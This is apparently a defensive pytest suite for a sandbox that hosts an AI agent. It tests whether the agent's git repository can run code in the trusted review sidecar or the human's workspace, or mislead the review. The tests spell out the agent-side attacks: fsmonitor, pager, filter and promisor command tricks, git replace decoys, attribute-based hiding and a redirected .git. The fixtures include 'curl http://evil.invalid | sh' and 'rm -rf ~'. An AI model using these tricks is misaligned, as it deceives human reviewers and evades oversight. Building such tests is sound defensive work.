"""The agent's git repository against the trusted processes that read it.

The agent owns its repository: config, attributes, hooks, replace refs, promisor
remotes. The sidecar (the Review tab), the control plane's Merge and the human
in the workspace read it; none of them may run what it names or show a lie.
"""

from __future__ import annotations

import contextlib
import shlex

import pytest

from .conftest import promisor_trap, sidecar

pytestmark = pytest.mark.podman

TREE = "/workspaces/repo"  # the agent's clone of the test repository


def commit(pod, files: dict[str, str], message: str) -> str:
    """The agent writes FILES and commits them; returns the commit id."""
    writes = " && ".join(f"printf %s {shlex.quote(text)} > {shlex.quote(path)}"
                         for path, text in files.items())
    out = pod.agent(f"cd {TREE} && {writes} && git add -A && git commit -qm '{message}' "
                    "&& git rev-parse HEAD").stdout
    return out.strip().splitlines()[-1]


def review(pod) -> dict:
    """What the Review tab shows (the sidecar's /git/review, as the control plane asks)."""
    return sidecar(pod).get("/git/review")


def markers(pod, *roles: str) -> list[str]:
    found = []
    for role in roles:
        out = pod.run(role, "ls /tmp", user="0").stdout.split()
        found += [f"{role}:{name}" for name in out if name.startswith("PWNED")]
    return found


def test_promisor_lazy_fetch_runs_nothing_in_the_sidecar(hostile_pod):
    """Attack: the agent turns its clone into a partial clone whose promisor remote's
    uploadpack is a command, and deletes a blob of its new commit, so that the
    sidecar's `git diff` for the Review tab lazy-fetches and runs the command."""
    pod = hostile_pod()
    commit(pod, {"lazy.txt": "payload\n"}, "agent: lazy")
    pod.agent(f"cd {TREE}\n" + promisor_trap("lazy.txt"))
    with contextlib.suppress(Exception):  # the missing blob may fail it; running may not
        review(pod)
    sidecar(pod).get("/git/status")
    assert markers(pod, "api", "workspace") == []


def test_filter_named_with_an_equals_sign_does_not_run(hostile_pod):
    """Attack: a clean filter named `x=y` (which `-c filter.x=y.clean=` cannot blank:
    git splits -c at the first '='), applied to every file by .gitattributes, with a
    tracked file's mtime changed so that `git status` in the sidecar cleans it."""
    pod = hostile_pod()
    pod.agent(f"""cd {TREE}
git config 'filter.x=y.clean' 'touch /tmp/PWNED-filter; cat'
git config 'filter.x=y.smudge' 'touch /tmp/PWNED-smudge; cat'
printf '* filter=x=y\\n' > .gitattributes
sleep 1; touch README.md""")
    state = sidecar(pod).get("/git/status")
    review(pod)
    assert ".gitattributes" in state["agent"]["dirty"]
    assert markers(pod, "api") == []


def test_config_programs_do_not_run_in_the_sidecar(hostile_pod):
    """Attack (variant): core.fsmonitor, core.hooksPath, core.pager, a diff driver with
    textconv and an external diff in the agent's config, for every git the sidecar runs."""
    pod = hostile_pod()
    commit(pod, {"a.txt": "one\n"}, "agent: a")
    pod.agent(f"""cd {TREE}
git config core.fsmonitor 'touch /tmp/PWNED-fsmonitor; false'
git config core.pager 'touch /tmp/PWNED-pager; cat'
git config diff.external 'touch /tmp/PWNED-extdiff'
git config diff.evil.textconv 'touch /tmp/PWNED-textconv; cat'
printf '* diff=evil\\n' > .git/info/attributes
mkdir -p /tmp/hooks && printf '#!/bin/sh\\ntouch /tmp/PWNED-hook\\n' > /tmp/hooks/post-index-change
git config core.hooksPath /tmp/hooks
touch a.txt""")
    sidecar(pod).get("/git/status")
    sidecar(pod).get("/git/log")
    assert "+one" in review(pod)["files"][0]["diff"]
    assert markers(pod, "api") == []


def test_review_shows_the_true_content_under_replace_refs(hostile_pod, control_plane):
    """Attack: `git replace` makes the agent's new script look harmless under its real
    blob id, so the Review tab would show a decoy while Merge lands the real file."""
    pod = hostile_pod()
    commit(pod, {"install.sh": "curl http://evil.invalid | sh\n"}, "agent: install script")
    pod.agent(f"""cd {TREE}
printf 'echo hello\\n' > /tmp/decoy
git replace "$(git rev-parse HEAD:install.sh)" "$(git hash-object -w /tmp/decoy)"
git show HEAD:install.sh | grep -q hello""")  # the lie works in the agent's own tree
    shown = review(pod)
    diff = {f["path"]: f for f in shown["files"]}["install.sh"]["diff"]
    assert "+curl http://evil.invalid | sh" in diff and "hello" not in diff
    status, answer = control_plane.call_json("POST", f"/api/pods/{pod.name}/review/merge",
                                        {"head": shown["head"], "base": shown["base"]})
    assert status == 200, answer
    landed = pod.run("workspace", f"cat {TREE}/install.sh").stdout
    assert landed == "curl http://evil.invalid | sh\n"


def test_attributes_cannot_hide_a_file_from_the_review(hostile_pod):
    """Attack: `.git/info/attributes` says `*.sh -diff` and a committed .gitattributes
    says `*.py binary`, so the Review tab would list the scripts as "binary, +0"."""
    pod = hostile_pod()
    pod.agent(f"cd {TREE} && printf '*.sh -diff\\n' > .git/info/attributes")
    commit(pod, {".gitattributes": "*.py binary\n", "run.sh": "rm -rf ~\n",
                 "setup.py": "import os; os.system('id')\n"}, "agent: scripts")
    files = {f["path"]: f for f in review(pod)["files"]}
    assert not files["run.sh"]["binary"] and "+rm -rf ~" in files["run.sh"]["diff"]
    assert not files["setup.py"]["binary"] and "os.system" in files["setup.py"]["diff"]


def test_merge_lands_only_the_reviewed_commit(hostile_pod, control_plane):
    """Attack: the agent moves its branch after the human loaded the review, so that
    Merge would land commits nobody reviewed."""
    pod = hostile_pod()
    commit(pod, {"ok.txt": "reviewed\n"}, "agent: reviewed change")
    shown = review(pod)
    late = commit(pod, {"late.txt": "never reviewed\n"}, "agent: sneaked in")
    before = pod.run("workspace", f"git -C {TREE} rev-parse HEAD").stdout.strip()
    status, answer = control_plane.call_json("POST", f"/api/pods/{pod.name}/review/merge",
                                        {"head": shown["head"], "base": shown["base"]})
    assert status == 409 and "moved" in answer["error"], answer
    assert pod.run("workspace", f"git -C {TREE} rev-parse HEAD").stdout.strip() == before
    assert not pod.exists("workspace", f"{TREE}/late.txt")
    # reviewed again, the new head merges
    shown = review(pod)
    assert shown["head"] == late
    status, answer = control_plane.call_json("POST", f"/api/pods/{pod.name}/review/merge",
                                        {"head": shown["head"], "base": shown["base"]})
    assert status == 200 and answer["head"] == late, answer
    status, answer = control_plane.call_json("POST", f"/api/pods/{pod.name}/review/merge", {})
    assert status == 400, answer  # no range, no merge


def test_git_in_the_agents_tree_is_refused_in_the_workspace(hostile_pod):
    """Attack: the agent sets core.fsmonitor (and an alias) in its repository and waits
    for the human to run `git status` (or a prompt that does) in /mnt/agent-workspace,
    next to the workspace's GH_TOKEN."""
    pod = hostile_pod()
    pod.agent(f"""cd {TREE}
git config core.fsmonitor 'touch /tmp/PWNED-fsmonitor; false'
git config alias.st '!touch /tmp/PWNED-alias'""")
    for command in ("git status", "git log -1"):
        ran = pod.run("workspace", f"cd /mnt/agent-workspace/repo && {command}", check=False)
        assert ran.returncode != 0 and "dubious ownership" in ran.stderr, (command, ran)
    # the repository's config is not read at all: its alias is no command
    ran = pod.run("workspace", "cd /mnt/agent-workspace/repo && git st", check=False)
    assert ran.returncode != 0 and "not a git command" in ran.stderr, ran
    assert markers(pod, "workspace") == []
    # the workspace's own repository works as before
    assert pod.run("workspace", f"cd {TREE} && git status --short", check=False).returncode == 0


def test_fetching_the_agents_branch_runs_nothing_in_the_workspace(hostile_pod):
    """Attack (variant): upload-pack settings, a promisor remote and hooks in the agent's
    repository, for the human's `git fetch agent` in the workspace."""
    pod = hostile_pod()
    sha = commit(pod, {"f.txt": "fetched\n"}, "agent: for the human")
    pod.agent(f"""cd {TREE}
git config uploadpack.packObjectsHook 'touch /tmp/PWNED-hook'
git config core.repositoryformatversion 1
git config extensions.partialClone evil
git config remote.evil.promisor true
git config remote.evil.url /nonexistent
git config remote.evil.uploadpack 'touch /tmp/PWNED-lazy; false'""")
    pod.run("workspace", f"cd {TREE} && git fetch -q agent")
    assert pod.run("workspace", f"git -C {TREE} rev-parse agent/main").stdout.strip() == sha
    assert markers(pod, "workspace") == []


def test_the_review_does_not_follow_a_redirected_git_dir(hostile_pod):
    """Attack (variant): the agent replaces its .git with a symbolic link to the
    workspace's repository (or a `gitdir:` file), so that the review reads another
    repository than its tree, or git in the sidecar follows a path of its choosing."""
    pod = hostile_pod()
    commit(pod, {"x.txt": "x\n"}, "agent: x")
    pod.agent(f"cd {TREE} && mv .git /tmp/real-git && ln -s /mnt/main-workspace/repo/.git .git")
    for path in ("/git/status", "/git/review"):
        with pytest.raises(Exception, match=r"not a git repository|no \.git directory"):
            sidecar(pod).get(path)
    pod.agent(f"cd {TREE} && rm .git && printf 'gitdir: /run/devaipod-env\\n' > .git")
    with pytest.raises(Exception, match=r"not a git repository|no \.git directory"):
        sidecar(pod).get("/git/review")
    assert markers(pod, "api") == []
